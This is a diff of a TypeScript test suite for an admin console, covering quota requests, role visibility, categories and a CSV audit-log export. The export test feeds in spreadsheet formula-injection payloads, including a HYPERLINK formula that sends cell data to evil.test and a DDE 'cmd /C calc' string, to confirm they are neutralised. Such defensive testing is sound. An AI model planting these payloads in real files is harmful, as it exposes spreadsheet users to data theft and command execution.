@@ -2,12 +2,13 @@ import assert from 'node:assert/strict';
 import { describe, test } from 'node:test';
 import { mailsTo } from '../../support/mails.ts';
 import { suiteApp } from '../../support/suite-app.ts';
-import { faultOf, partOf, signedIn, textOf } from '../site-kit.ts';
+import { type Browser, faultOf, partOf, signedIn, suiteBrowser, textOf } from '../site-kit.ts';
 
 const CONSOLE = '/portal/console';
 
 describe('requests for more calls', () => {
   const app = suiteApp();
+  const support = suiteBrowser(app, 'support');
   const PAGE = `${CONSOLE}/quota-requests`;
   const asked = async () => {
     const person = await signedIn(app);
@@ -15,46 +16,37 @@ describe('requests for more calls', () => {
     const [request] = await app.quotaRequests.list(person.accountId);
     return { person, at: String(request?.requestId) };
   };
-  const stateOf = async (accountId: number) => (await app.quotaRequests.list(accountId))[0]?.status;
+  const statesOf = (...people: readonly Browser[]) =>
+    Promise.all(people.map(async ({ accountId }) => (await app.quotaRequests.list(accountId))[0]?.status));
 
   test('an approved one sets the limits, tells the account, and can be decided only once', async () => {
-    const support = await signedIn(app, 'support');
     const { person, at } = await asked();
     const html = await support.page(PAGE);
     const values = { dailyQuota: 1_500_000, burst: 3, note: 'Welcome' };
     assert.equal((await support.submitIn(html, PAGE, 'approve', values, at)).status, 200);
     const account = await app.accounts.findAccount(person.accountId);
     assert.deepEqual([account?.override.dailyQuota, account?.override.burst], [1_500_000, 3]);
-    assert.equal(await stateOf(person.accountId), 'approved');
     assert.match((await mailsTo(app, person.email)).join(), /1,500,000[\s\S]*Welcome/);
     const again = await support.submitIn(html, PAGE, 'deny', { note: 'No' }, at);
-    assert.deepEqual([again.status, await stateOf(person.accountId)], [409, 'approved']);
+    assert.deepEqual([again.status, await statesOf(person)], [409, ['approved']]);
     assert.ok((partOf(await support.page(`${PAGE}?state=decided`), 'decided') ?? '').includes(person.email));
   });
 
   test('a denied one needs words; the fault stands at the field of this request alone', async () => {
-    const support = await signedIn(app, 'support');
     const [one, other] = [await asked(), await asked()];
     assert.equal(faultOf(await support.submit(PAGE, 'deny', { note: '' }, one.at)), '400 note');
     assert.equal((await support.submit(PAGE, 'deny', { note: 'No' }, one.at)).status, 200);
-    assert.deepEqual(
-      [await stateOf(one.person.accountId), await stateOf(other.person.accountId)],
-      ['denied', 'waiting'],
-    );
+    assert.deepEqual(await statesOf(one.person, other.person), ['denied', 'waiting']);
   });
 
   test("a request can't be decided as that of another account", async () => {
-    const support = await signedIn(app, 'support');
     const owner = await signedIn(app, 'owner');
     await app.quotaRequests.add(owner.accountId, 2_000_000, 'Mine');
     const [request] = await app.quotaRequests.list(owner.accountId);
     const { at, person } = await asked();
     const values = { requestId: request?.requestId ?? 0, note: 'No' };
     assert.equal((await support.submit(PAGE, 'deny', values, at)).status, 409);
-    assert.deepEqual(
-      [await stateOf(owner.accountId), await stateOf(person.accountId)],
-      ['waiting', 'waiting'],
-    );
+    assert.deepEqual(await statesOf(owner, person), ['waiting', 'waiting']);
   });
 });
 
@@ -81,13 +73,8 @@ describe('the audit log', () => {
 
   test('the file holds the same lines, and no cell that a spreadsheet program would run', async () => {
     const owner = await signedIn(app, 'owner');
-    const reasons = [
-      '=HYPERLINK("http://evil.test/?"&A2,"open")',
-      "+1+cmd|' /C calc'!A0",
-      '@SUM(1)',
-      '-1',
-      '\t=1',
-    ];
+    const link = '=HYPERLINK("http://evil.test/?"&A2,"open")';
+    const reasons = [link, "+1+cmd|' /C calc'!A0", '@SUM(1)', '-1', '\t=1'];
     for (const [at, reason] of reasons.entries()) {
       const decided = await app.itemOverrides.decide(new Map([[1001, { withheld: at % 2 === 0 }]]), reason);
       const detail = { decision: decided?.decisionId };
@@ -98,9 +85,9 @@ describe('the audit log', () => {
     assert.match(String(file.headers['content-disposition']), /audit_2026-11-21\.csv/);
     const cells = file.text.split(/[,\r\n]+/).map((cell) => cell.replace(/^"/, ''));
     for (const cell of ["'=1+1", "'@action", "'@SUM(1)"]) assert.ok(cells.includes(cell), cell);
-    assert.deepEqual(
-      cells.filter((cell) => /^\s*[=+@-]/.test(cell)),
-      [],
+    assert.equal(
+      cells.find((cell) => /^\s*[=+@-]/.test(cell)),
+      undefined,
     );
     assert.equal((await (await signedIn(app, 'shop')).get(`${CONSOLE}/audit.csv`)).status, 403);
   });
@@ -110,27 +97,20 @@ describe('the overview', () => {
   const app = suiteApp();
 
   test('shows what a role may see', async () => {
-    for (const [role, seen] of [
-      ['support', false],
-      ['shop', true],
+    for (const [role, shown, hidden] of [
+      ['support', 'quota-requests', 'shop'],
+      ['shop', 'shop', 'quota-requests'],
     ] as const) {
       const html = await (await signedIn(app, role)).page(CONSOLE);
-      assert.deepEqual(
-        [html.includes(`${CONSOLE}/shop"`), html.includes(`${CONSOLE}/quota-requests"`)],
-        [seen, !seen],
-        role,
-      );
+      assert.ok(html.includes(`${CONSOLE}/${shown}"`) && !html.includes(`${CONSOLE}/${hidden}"`), role);
     }
   });
 
   test('a category is made in the console, once, and its place is in the tree', async () => {
     const shop = await signedIn(app, 'shop');
     const PAGE = `${CONSOLE}/categories`;
-    const made = await shop.submit(PAGE, 'add', {
-      categoryId: '001009',
-      categoryName: '시 & 희곡',
-      parentId: '001',
-    });
+    const category = { categoryId: '001009', categoryName: '시 & 희곡', parentId: '001' };
+    const made = await shop.submit(PAGE, 'add', category);
     assert.equal(made.status, 200);
     assert.ok(textOf(partOf(made.text, 'categories') ?? '').includes('국내도서 > 시 & 희곡'));
     assert.equal((await app.importLog.list(1))[0]?.actor, `account:${shop.accountId}`);
